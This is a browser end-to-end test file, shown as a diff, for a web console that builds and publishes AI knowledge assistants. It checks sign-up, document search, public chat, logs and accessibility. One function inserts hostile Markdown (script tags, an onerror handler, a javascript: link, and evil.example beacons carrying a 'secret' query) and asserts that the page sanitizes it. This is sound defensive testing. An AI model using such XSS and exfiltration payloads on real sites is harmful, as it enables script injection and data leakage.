@@ -1,0 +1,126 @@
+// Sign-up, the sample assistant, a document uploaded and found, publishing, a chat on the public page with its sources;
+// clicks counted, main pages looked at by axe, hostile Markdown rendered. Run by tests/browser with a server's base URL.
+import assert from 'node:assert/strict'
+import { readFileSync } from 'node:fs'
+import { createRequire } from 'node:module'
+import { launch, sample, signUp, watched } from './browser.mjs'
+
+const base = process.argv[2]
+const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
+const MOST_CLICKS = 25
+
+const browser = await launch()
+const { page, problems } = await watched(browser, base)
+page.setDefaultTimeout(30_000)
+
+let clicks = 0
+await page.exposeFunction('countClick', () => void clicks++)
+await page.addInitScript(() => addEventListener('click', (event) => event.isTrusted && window.countClick(), true))
+
+/** No serious finding on what the page shows now. */
+async function look(name, on = page) {
+  // From outside the page's policy, as a browser's extension would.
+  const { violations } = await on.evaluate(`${axe}; axe.run(document, { resultTypes: ['violations'] })`)
+  const serious = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical')
+  const words = serious.map(({ id, nodes }) => `${id}: ${nodes.slice(0, 3).map(({ html }) => html.slice(0, 160)).join(' | ')}`)
+  assert.deepEqual(words, [], `axe on ${name}`)
+}
+
+async function published() {
+  await signUp(page)
+  await look('the empty studio')
+  await sample(page)
+  await page.getByText('As published').waitFor()
+  await look('the editor')
+  await page.getByLabel('Prompt', { exact: true }).fill('Answer in one short sentence, from the context only.')
+  await page.getByText('Unpublished changes').waitFor()
+  await page.getByRole('button', { name: 'Publish' }).click()
+  await page.getByText('As published').waitFor()
+  console.log(`from sign-up to a published knowledge assistant: ${clicks} clicks`)
+  assert.ok(clicks <= MOST_CLICKS)
+}
+
+async function knowledge() {
+  await page.getByRole('link', { name: 'Knowledge', exact: true }).first().click()
+  await page.getByRole('button', { name: 'New knowledge base' }).first().click()
+  await page.getByLabel('Name').fill('Boats')
+  await page.getByRole('button', { name: 'Go on to documents' }).click()
+  const text = '# Boats\n\nThe ferry to the island leaves every day at 9:15 from the wooden pier.\n'
+  await page.locator('input[type=file]').setInputFiles({ name: 'boats.md', mimeType: 'text/markdown', buffer: Buffer.from(text) })
+  await page.getByRole('button', { name: 'Add the document' }).click()
+  await page.getByText(/chunks?, ready/).waitFor({ timeout: 120_000 })
+  await look('adding documents')
+  await page.getByRole('link', { name: 'Try the search' }).last().click()
+  await page.getByLabel('Question').fill('When does the ferry leave?')
+  await page.getByRole('button', { name: 'Search' }).click()
+  await page.getByText('wooden pier').waitFor()
+  await look('trying the search')
+}
+
+async function chat(link) {
+  const visitor = await watched(browser, base)
+  visitor.page.setDefaultTimeout(120_000)
+  await visitor.page.goto(link)
+  await visitor.page.getByRole('button', { name: 'When is breakfast?' }).click()
+  await visitor.page.getByText('Sources').waitFor()
+  await look('the public chat', visitor.page)
+  await visitor.page.getByRole('button', { name: 'house-rules.md' }).click()
+  await visitor.page.getByText('winter garden').first().waitFor()
+  await visitor.page.keyboard.press('Escape')
+  await visitor.page.getByRole('button', { name: 'Good answer' }).click()
+  await visitor.page.reload()
+  await visitor.page.getByText('Sources').waitFor()
+  assert.deepEqual(visitor.problems, [])
+  await visitor.context.close()
+}
+
+async function watch(app) {
+  await page.goto(`${app}/logs`)
+  await page.getByText('When is breakfast?').first().click()
+  await page.getByRole('button', { name: 'What the model saw' }).first().click()
+  await page.getByText('The prompt', { exact: true }).waitFor()
+  await page.getByText('in the prompt').first().waitFor()
+  for (const part of ['logs', 'monitor', 'share', 'api', 'annotations']) {
+    await page.goto(`${app}/${part}`)
+    await page.waitForLoadState('networkidle')
+    await look(part)
+  }
+  for (const path of ['/settings', '/settings/keys', '/settings/members', '/settings/account', '/knowledge']) {
+    await page.goto(path)
+    await page.waitForLoadState('networkidle')
+    await look(path)
+  }
+}
+
+/** An opening that tries to run, to call out and to break the page. */
+async function hostile(app) {
+  const text = '<script>window.owned=1</script><img src=x onerror="window.owned=1">\n\n[click](javascript:window.owned=1)\n\n![beacon](https://evil.example/p.png?q=secret)\n\n[out](https://evil.example/?q=secret)'
+  await page.goto(app)
+  await page.getByLabel('Opening statement').fill(text)
+  const log = page.getByRole('log')
+  await log.getByText('beacon').waitFor()
+  assert.equal(await log.locator('img, script').count(), 0)
+  assert.equal(await log.locator('a[href^="javascript"]').count(), 0)
+  await log.getByRole('link', { name: 'out' }).click()
+  await page.getByText('Leave this page?').waitFor()
+  await page.getByText('https://evil.example/?q=secret', { exact: true }).waitFor()
+  assert.equal(await page.evaluate(() => window.owned), undefined)
+}
+
+try {
+  await published()
+  const app = page.url()
+  const link = await page.getByRole('link', { name: 'Open the page' }).getAttribute('href')
+  await knowledge()
+  await chat(link)
+  await watch(app)
+  await hostile(app)
+  assert.deepEqual(problems, [])
+  console.log('the console works')
+} catch (error) {
+  await page.screenshot({ path: 'built/failed.png' }).catch(() => {})
+  console.error(`at ${page.url()}; the page is in console/built/failed.png`)
+  throw error
+} finally {
+  await browser.close()
+}
